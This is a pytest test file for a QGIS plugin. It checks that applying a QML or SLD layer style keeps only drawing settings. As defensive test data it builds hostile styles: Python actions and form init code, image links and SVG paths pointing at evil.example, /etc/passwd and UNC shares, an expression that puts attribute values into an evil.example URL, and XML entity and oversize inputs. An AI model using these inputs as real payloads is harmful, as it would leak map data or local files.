"""Styles of platforms: drawn, and nothing but drawn; broken and evil ones change nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from qgis.core import (
    QgsCategorizedSymbolRenderer,
    QgsMapLayer,
    QgsProperty,
    QgsReadWriteContext,
    QgsSingleSymbolRenderer,
    QgsSvgMarkerSymbolLayer,
    QgsSymbol,
    QgsSymbolLayer,
    QgsVectorLayer,
)
from qgis.PyQt.QtGui import QColor
from qgis.PyQt.QtXml import QDomDocument

from cicclo_qgis.host.layer_style import apply
from cicclo_qgis.ogcapi.styles import Style, StyleKind

SLD = b"""<?xml version="1.0"?>
<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld"
 xmlns:ogc="http://www.opengis.net/ogc" xmlns:xlink="http://www.w3.org/1999/xlink">
 <NamedLayer><Name>zones</Name><UserStyle><FeatureTypeStyle><Rule><PointSymbolizer><Graphic>
 %s<Size>12</Size></Graphic></PointSymbolizer></Rule></FeatureTypeStyle></UserStyle></NamedLayer>
</StyledLayerDescriptor>"""
MARK = (
    b"<Mark><WellKnownName>square</WellKnownName>"
    b'<Fill><CssParameter name="fill">#ff0000</CssParameter></Fill></Mark>'
)
PICTURE = (
    b'<ExternalGraphic><OnlineResource xlink:type="simple" xlink:href="%s"/>'
    b"<Format>image/svg+xml</Format></ExternalGraphic>"
)


@pytest.fixture
def layer(qgis_app: Any) -> QgsVectorLayer:
    layer = QgsVectorLayer("Point?field=kind:string", "zones", "memory")
    layer.setCustomProperty("cicclo/platform", "armor")
    return layer


def _symbol(layer: QgsVectorLayer) -> QgsSymbol:
    return layer.renderer().symbol()


def _qml(other: QgsVectorLayer) -> bytes:
    document = QDomDocument()
    other.exportNamedStyle(document, QgsReadWriteContext())
    return bytes(document.toByteArray())


def _styled(svg: str = "") -> QgsVectorLayer:
    other = QgsVectorLayer("Point?field=kind:string", "other", "memory")
    symbol = QgsSymbol.defaultSymbol(other.geometryType())
    if svg:
        symbol.changeSymbolLayer(0, QgsSvgMarkerSymbolLayer(svg))
    symbol.setColor(QColor("#123456"))
    other.setRenderer(QgsSingleSymbolRenderer(symbol))
    return other


def test_a_qgis_style_draws_the_layer(layer: QgsVectorLayer) -> None:
    assert apply(layer, Style(StyleKind.QML, _qml(_styled())))
    assert _symbol(layer).color().name() == "#123456"


def test_nothing_but_drawing_is_taken(layer: QgsVectorLayer) -> None:
    other = _styled()
    from qgis.core import QgsAction, QgsEditFormConfig

    python = QgsAction.ActionType.GenericPython
    other.actions().addAction(QgsAction(python, "evil", "raise SystemExit"))
    form = other.editFormConfig()
    form.setInitCode("raise SystemExit")
    form.setInitCodeSource(QgsEditFormConfig.PythonInitCodeSource.CodeSourceDialog)
    form.setInitFunction("evil")
    other.setEditFormConfig(form)
    other.setMapTipTemplate('<img src="http://evil.example/x">')
    other.setCustomProperty("cicclo/platform", "evil")
    other.setAbstract("evil")
    assert apply(layer, Style(StyleKind.QML, _qml(other)))
    assert layer.actions().actions() == []
    assert layer.editFormConfig().initCode() == "" and layer.mapTipTemplate() == ""
    assert layer.customProperty("cicclo/platform") == "armor" and layer.abstract() == ""


@pytest.mark.parametrize(
    "path",
    [
        "http://evil.example/x.svg",
        "HTTPS://evil.example/x.svg",
        "file:///etc/passwd",
        "\\\\evil.example\\share\\x.svg",
        "//evil.example/share/x.svg",
        "/etc/passwd",
        "C:\\x.svg",
        "../../x.svg",
    ],
)
def test_pictures_from_elsewhere_are_left_out(layer: QgsVectorLayer, path: str) -> None:
    assert apply(layer, Style(StyleKind.QML, _qml(_styled(path))))
    assert _symbol(layer).symbolLayer(0).path() != path
    assert "evil" not in _symbol(layer).symbolLayer(0).path()
    layer.renderer().symbol().changeSymbolLayer(0, QgsSvgMarkerSymbolLayer("base64:"))
    apply(layer, Style(StyleKind.SLD, SLD % (PICTURE % path.encode())))
    found = layer.renderer().symbol().symbolLayer(0)
    assert not isinstance(found, QgsSvgMarkerSymbolLayer) or found.path() in ("", "base64:")


def test_a_picture_in_the_file_stays(layer: QgsVectorLayer) -> None:
    embedded = "base64:PHN2Zy8+"
    assert apply(layer, Style(StyleKind.QML, _qml(_styled(embedded))))
    assert _symbol(layer).symbolLayer(0).path() == embedded


def test_no_expression_makes_an_address_of_attributes(layer: QgsVectorLayer) -> None:
    other = _styled("base64:PHN2Zy8+")
    name = QgsSymbolLayer.Property.PropertyName
    evil = QgsProperty.fromExpression("'http://evil.example/?' || \"kind\"")
    other.renderer().symbol().symbolLayer(0).setDataDefinedProperty(name, evil)
    assert b"evil" in _qml(other)
    assert apply(layer, Style(StyleKind.QML, _qml(other)))
    assert b"evil" not in _qml(layer)


def test_a_styled_layer_descriptor_draws_the_layer(layer: QgsVectorLayer) -> None:
    assert apply(layer, Style(StyleKind.SLD, SLD % MARK))
    symbol = layer.renderer().symbol()
    assert symbol.color().name() == "#ff0000"


@pytest.mark.parametrize(
    "style",
    [
        Style(StyleKind.QML, b""),
        Style(StyleKind.QML, b"<qgis>"),
        Style(StyleKind.QML, b"<qgis/>"),
        Style(StyleKind.QML, b"<qgis><renderer-v2 type='nothing'/></qgis>"),
        Style(StyleKind.QML, b'<!DOCTYPE x [<!ENTITY a "b">]><qgis><renderer-v2/></qgis>'),
        Style(StyleKind.QML, SLD % MARK),
        Style(StyleKind.SLD, b"<StyledLayerDescriptor/>"),
        Style(StyleKind.SLD, b"\x00\xff"),
        Style(StyleKind.SLD, b"<qgis/>"),
        Style(StyleKind.QML, b"<qgis><renderer-v2/>" + b"<a/>" * 60_000 + b"</qgis>"),
    ],
)
def test_a_broken_style_leaves_the_layer_as_it_was(layer: QgsVectorLayer, style: Style) -> None:
    red = QgsSymbol.defaultSymbol(layer.geometryType())
    red.setColor(QColor("#aa0000"))
    layer.setRenderer(QgsSingleSymbolRenderer(red))
    assert not apply(layer, style)
    assert _symbol(layer).color().name() == "#aa0000" and layer.isValid()


def test_a_style_for_polygons_is_not_put_on_points(layer: QgsVectorLayer) -> None:
    polygons = QgsVectorLayer("Polygon?field=kind:string", "p", "memory")
    polygons.setRenderer(QgsCategorizedSymbolRenderer("kind"))
    before = _qml_of_renderer(layer)
    apply(layer, Style(StyleKind.QML, _qml(polygons)))
    assert _qml_of_renderer(layer) == before


def _qml_of_renderer(layer: QgsVectorLayer) -> str:
    return str(layer.renderer().dump()) + str(QgsMapLayer.LayerFlag.Identifiable)


def test_a_style_of_qgis_as_a_file_of_its_own(layer: QgsVectorLayer, tmp_path: Path) -> None:
    file = tmp_path / "style.qml"
    _styled().saveNamedStyle(str(file))
    assert apply(layer, Style(StyleKind.QML, file.read_bytes()))
